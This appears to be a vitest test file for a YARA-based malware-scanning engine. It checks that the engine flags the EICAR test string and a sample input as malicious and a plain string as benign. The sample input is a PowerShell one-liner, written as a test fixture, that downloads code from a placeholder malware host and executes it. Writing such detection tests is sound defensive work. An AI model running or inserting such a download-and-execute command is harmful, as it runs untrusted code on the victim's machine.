import { expect, test } from 'vitest'
import { EICAR, judge } from '../judge.fixture.ts'
import YaraMicroengine from './engine.ts'

test('finds what its rules describe', async () => {
  const found = await judge(new YaraMicroengine(), [EICAR, 'IWR http://malware.example/a | iex', 'a letter'])
  expect(found).toMatchObject([
    { outcome: 'malicious', family: 'EICAR-Test-File' },
    { outcome: 'malicious', family: 'Downloader' },
    { outcome: 'benign' },
  ])
})
